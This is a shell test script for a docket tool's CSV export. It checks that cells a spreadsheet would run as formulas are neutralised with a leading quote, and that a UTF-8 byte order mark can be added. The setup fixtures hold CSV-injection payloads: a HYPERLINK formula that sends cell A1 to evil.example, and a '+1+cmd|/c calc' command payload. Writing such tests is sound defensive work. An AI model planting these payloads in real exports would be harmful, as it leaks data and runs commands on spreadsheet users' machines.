#!/bin/sh
test_description='list and report --format csv: cells a spreadsheet would run as formulas are neutralised (OWASP), --bom for Excel'
. "$(dirname "$0")/lib.sh"

DOCKET_NOW=2026-11-28T09:00:00+08:00
DOCKET_USER=zhang.wei
export DOCKET_NOW DOCKET_USER

# cells FILE COLUMN: the cells of COLUMN (by header name) as Python's csv
# module reads them, one per line, the header row left out
cells () {
	/usr/bin/python3 - "$1" "$2" <<'EOF'
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    rows = list(csv.reader(f))
col = rows[0].index(sys.argv[2])
for r in rows[1:]:
    print(r[col])
EOF
}

test_expect_success 'setup: cases whose subject and respondent the public typed as formulas' '
	docket_init_store s &&
	(cd s &&
	docket file --channel web --phone 13800000001 \
		--subject "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")" \
		--respondent "=1+1" &&
	docket file --channel web --phone 13800000002 --subject "+1+cmd|/c calc" \
		--respondent "@SUM(A1:A9)" &&
	docket file --channel web --phone 13800000003 --subject "-2+3" \
		--respondent "-某某公司" &&
	docket file --channel web --phone 13800000004 --subject "@A1" \
		--respondent 某某物业 &&
	docket file --channel web --phone 13800000005 --subject "电梯 = 坏了" \
		--respondent 某某物业) >ids
'

test_expect_success 'list --format csv: each formula cell starts with a quote, the rest is as typed' '
	docket -C s list --format csv >list.csv &&
	cells list.csv subject >got &&
	cat >expect <<-\EOF &&
	'"'"'=HYPERLINK("http://evil.example/?"&A1,"点此查看")
	'"'"'+1+cmd|/c calc
	'"'"'-2+3
	'"'"'@A1
	电梯 = 坏了
	EOF
	test_cmp expect got &&
	cells list.csv id >got &&
	test_cmp ids got
'

test_expect_success 'list --format csv: a neutralised cell is quoted in the file itself' '
	grep -F ",\"'"'"'-2+3\"" list.csv &&
	grep -F ",电梯 = 坏了" list.csv &&
	! grep -E ",[=+@-]" list.csv
'

test_expect_success 'report --format csv --by respondent: names neutralised, figures stay numbers' '
	docket -C s report --from 2026-11-01 --to 2026-12-01 --by respondent \
		--format csv >report.csv &&
	cells report.csv respondent >got &&
	printf "%s\n" "'"'"'-某某公司" "'"'"'=1+1" "'"'"'@SUM(A1:A9)" 某某物业 >expect &&
	LC_ALL=C sort expect >expect.sorted && LC_ALL=C sort got >got.sorted &&
	test_cmp expect.sorted got.sorted &&
	/usr/bin/python3 - report.csv <<-\EOF
	import csv, sys
	rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
	head = rows[0]
	for r in rows[1:]:
	    for k, v in zip(head, r):
	        if k in ("from", "to", "respondent") or v == "":
	            continue
	        float(v)            # a figure, not text
	        assert not v.startswith("'"'"'"), (k, v)
	        assert float(v) >= 0, (k, v)
	assert sum(int(r[head.index("received")]) for r in rows[1:]) == 5
	EOF
'

test_expect_success '--bom starts the CSV with the UTF-8 byte order mark; without it there is none' '
	docket -C s list --format csv --bom >bom.csv &&
	test "$(head -c 3 bom.csv | od -An -tx1 | tr -d " ")" = efbbbf &&
	tail -c +4 bom.csv >nobom.csv &&
	test_cmp list.csv nobom.csv &&
	test "$(head -c 2 list.csv)" = id &&
	docket -C s report --from 2026-11-01 --to 2026-12-01 --format csv \
		--bom >rbom.csv &&
	test "$(head -c 3 rbom.csv | od -An -tx1 | tr -d " ")" = efbbbf &&
	test "$(cells rbom.csv received)" = 5
'

test_expect_success '--bom without --format csv is a usage error' '
	expect_refusal --code 2 s "--bom goes with --format csv" \
		docket list --bom &&
	expect_refusal --code 2 s "--bom goes with --format csv" \
		docket report --format json --bom
'

test_done
